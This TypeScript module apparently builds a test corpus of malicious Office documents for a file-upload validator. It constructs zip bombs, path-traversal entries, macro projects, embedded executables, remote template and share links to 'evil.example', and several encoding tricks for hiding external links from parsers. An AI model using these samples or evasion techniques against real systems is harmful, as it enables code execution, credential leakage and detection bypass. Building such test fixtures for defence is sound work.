/** Attacks of modern office documents, whose parts are in a ZIP archive. */
import { buildCompoundFile } from "./compound-file.ts";
import { DOCX, type MaliciousFile, XLSX } from "./malicious-file.ts";
import { buildOfficeDocument, buildRelations, buildZip } from "./office-documents.ts";
import { buildWordAttacks } from "./word-attacks.ts";
import { buildWorkbookAttacks } from "./workbook-attacks.ts";

/** Builds the attacks of a type: those of every document, and those of a workbook or of a text. */
export const buildOfficeAttacks = (type: typeof XLSX | typeof DOCX): MaliciousFile[] => {
  const folder = type === XLSX ? "xl" : "word";
  const rels = `${folder}/_rels/${type === XLSX ? "workbook" : "document"}.xml.rels`;
  const validDocument = buildOfficeDocument(type);
  const large = Buffer.alloc(6 * 1024 * 1024);
  const mislabelledDocument = Buffer.from(
    buildOfficeDocument(type, { [`${folder}/a.xml`]: new Uint8Array(1_000_000) }),
  );
  // The directory says that a part of a million bytes has ten.
  const nameOffset = mislabelledDocument.lastIndexOf(`${folder}/a.xml`);
  mislabelledDocument.writeUInt32LE(10, nameOffset - 46 + 24);
  mislabelledDocument.writeUInt32LE(10, mislabelledDocument.indexOf(`${folder}/a.xml`) - 30 + 22);
  return [
    {
      name: "a bomb of one part",
      bytes: buildOfficeDocument(type, { [`${folder}/b.xml`]: large }),
      reasons: ["fileUnpacked"],
    },
    {
      name: "a bomb of several parts",
      bytes: buildOfficeDocument(
        type,
        // One after the other each is small; together they are not.
        Object.fromEntries(
          Array.from({ length: 36 }, (_, n) => [`${folder}/b${n}.xml`, large.subarray(0, 3 * 1024 * 1024)]),
        ),
      ),
      reasons: ["fileUnpacked"],
    },
    {
      name: "a part that is longer than it says",
      bytes: mislabelledDocument,
      reasons: ["fileUnpacked", "fileBroken"],
    },
    {
      name: "thousands of parts",
      bytes: buildOfficeDocument(
        type,
        Object.fromEntries(Array.from({ length: 2_500 }, (_, n) => [`${folder}/p${n}.xml`, "<a/>"])),
      ),
      reasons: ["fileUnpacked"],
    },
    {
      name: "a path upwards",
      bytes: buildOfficeDocument(type, { "../../evil.xml": "<a/>" }),
      reasons: ["fileBroken"],
    },
    {
      name: "an absolute path",
      bytes: buildOfficeDocument(type, { "/etc/evil.xml": "<a/>" }),
      reasons: ["fileBroken"],
    },
    {
      name: "a drive's path",
      bytes: buildOfficeDocument(type, { "c:\\evil.xml": "<a/>" }),
      reasons: ["fileBroken"],
    },
    {
      name: "an archive in it",
      bytes: buildOfficeDocument(type, { [`${folder}/media/image1.png`]: buildZip({ "a.txt": "a" }) }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "a macro project",
      bytes: buildOfficeDocument(type, { [`${folder}/vbaProject.bin`]: "code" }),
      reasons: ["officeMacro"],
    },
    {
      name: "a macro project under another name",
      bytes: buildOfficeDocument(type, {
        [`${folder}/media/image1.png`]: buildCompoundFile({ VBA: "code" }),
      }),
      reasons: ["officeMacro", "officeEmbedded"],
    },
    {
      name: "a content type with macros",
      bytes: buildOfficeDocument(
        type,
        {},
        `<Override PartName="/x.xml" ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/>`,
      ),
      reasons: ["officeMacro"],
    },
    {
      name: "an embedded document",
      bytes: buildOfficeDocument(type, { [`${folder}/embeddings/oleObject1.bin`]: "x" }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "a program",
      bytes: buildOfficeDocument(type, { "setup.exe": "MZ" }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "ActiveX",
      bytes: buildOfficeDocument(type, { [`${folder}/activeX/activeX1.xml`]: "<a/>" }),
      reasons: ["officeMacro"],
    },
    {
      name: "a template from elsewhere",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, spelled in numbers",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm", "Extern&#x61;l"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, in UTF-16",
      bytes: buildOfficeDocument(type, {
        [rels]: Buffer.from(
          `\ufeff${buildRelations("attachedTemplate", "https://evil.example/t.dotm")}`,
          "utf16le",
        ),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, behind another attribute",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/?a>b' TargetMode='Internal' c"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, between pretended comments",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm")
          .replace("<Relationship ", "<![CDATA[<!--]]><Relationship ")
          .replace("/></", "/><![CDATA[-->]]></"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a picture from elsewhere",
      bytes: buildOfficeDocument(type, { [rels]: buildRelations("image", "https://evil.example/p.png") }),
      reasons: ["officeLinked"],
    },
    {
      name: "a link that runs",
      bytes: buildOfficeDocument(type, { [rels]: buildRelations("hyperlink", "javascript:alert(1)") }),
      reasons: ["officeLinked"],
    },
    {
      name: "a link to a share",
      bytes: buildOfficeDocument(type, { [rels]: buildRelations("hyperlink", "file://evil.example/share") }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, under a prefix of other letters",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm")
          .replace("<Relationships>", '<格:Relationships xmlns:格="urn:relationships">')
          .replace("<Relationship ", "<格:Relationship ")
          .replace("</Relationships>", "</格:Relationships>"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, beside an attribute of another vocabulary",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm").replace(
          "/></",
          ' z:TargetMode="Internal" z:Type="x/hyperlink"/></',
        ),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, as a part of its own",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "file://evil.example/t.dotm", "Internal"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a picture from elsewhere, in an old drawing",
      bytes: buildOfficeDocument(type, {
        [`${folder}/drawings/vmlDrawing1.vml`]:
          '<v:shape><v:imagedata src="//evil.example/p.png"/></v:shape>',
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a link to a share, in an old drawing",
      bytes: buildOfficeDocument(type, {
        [`${folder}/drawings/vmlDrawing1.vml`]: '<v:shape href="file://evil.example/share" r:href="rId1"/>',
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "entities of its own",
      bytes: buildOfficeDocument(type, {
        [`${folder}/a.xml`]: '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>',
      }),
      reasons: ["fileBroken"],
    },
    ...(type === XLSX ? buildWorkbookAttacks() : buildWordAttacks()),
    {
      name: "the other kind of document",
      bytes: buildOfficeDocument(type === XLSX ? DOCX : XLSX),
      reasons: ["fileType"],
    },
    { name: "an archive that is no document", bytes: buildZip({ "a.xml": "<a/>" }), reasons: ["fileType"] },
    {
      name: "cut off",
      bytes: validDocument.subarray(0, validDocument.length - 40),
      reasons: ["fileBroken", "fileMixed", "fileType"],
    },
    {
      name: "something before it",
      bytes: Buffer.concat([Buffer.from("GIF89a"), validDocument]),
      reasons: ["fileType", "fileMixed", "fileBroken"],
    },
    {
      name: "something after it",
      bytes: Buffer.concat([validDocument, Buffer.from("<script>alert(1)</script>")]),
      reasons: ["fileMixed"],
    },
  ];
};
